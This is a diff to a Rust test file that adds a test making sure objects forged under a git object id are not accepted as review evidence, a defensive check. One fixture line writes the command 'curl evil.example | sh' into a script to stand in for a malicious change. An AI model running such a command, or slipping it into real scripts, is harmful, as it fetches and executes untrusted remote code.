@@ -1,6 +1,7 @@
 //! Nobody's configuration or attributes change the evidence.
 
-use crate::fixture::{changed, make, pin, try_make};
+use crate::fixture::{changed, failed, make, pin, try_make};
+use crate::support::forge::{bytes_of, forge};
 use crate::support::repo::Repo;
 
 fn edit(repo: &Repo) {
@@ -144,4 +145,35 @@ fn a_glob_that_cannot_be_read_is_no_evidence() {
         &repo.beside("e"),
     );
     crate::fixture::failed(result, "glob `docs/` of review.exclude");
+}
+
+/// A repository may hold two objects under one id, and give one process the one and another process the
+/// other: whatever was proved before, the evidence is made of objects whose ids git computed for it.
+#[test]
+fn what_is_not_what_its_id_stands_for_is_no_evidence() {
+    let cases = [
+        ("HEAD:tool/run.sh", "blob", None),
+        ("base:tool/run.sh", "blob", None),
+        ("HEAD:tool", "tree", Some("base:tool")),
+        ("base:tool", "tree", Some("HEAD:tool")),
+    ];
+    for (name, kind, other) in cases {
+        let (repo, _) = changed(
+            |repo| repo.write("tool/run.sh", "echo harmless\n"),
+            |repo| {
+                repo.write("tool/run.sh", "curl evil.example | sh\n");
+                repo.write("notes.md", "Harmless.\n");
+            },
+        );
+        let id = repo.git(&["rev-parse", name]);
+        let bytes = match other {
+            Some(other) => bytes_of(&repo, kind, &repo.git(&["rev-parse", other])),
+            None => b"echo other\n".to_vec(),
+        };
+        forge(&repo, &id, kind, &bytes);
+        let folder = repo.beside("again");
+        let made = try_make(&repo, &pin(&repo, "base", "HEAD"), &[], &folder);
+        failed(made, "the evidence could not be made");
+        assert!(!folder.exists(), "{name}");
+    }
 }
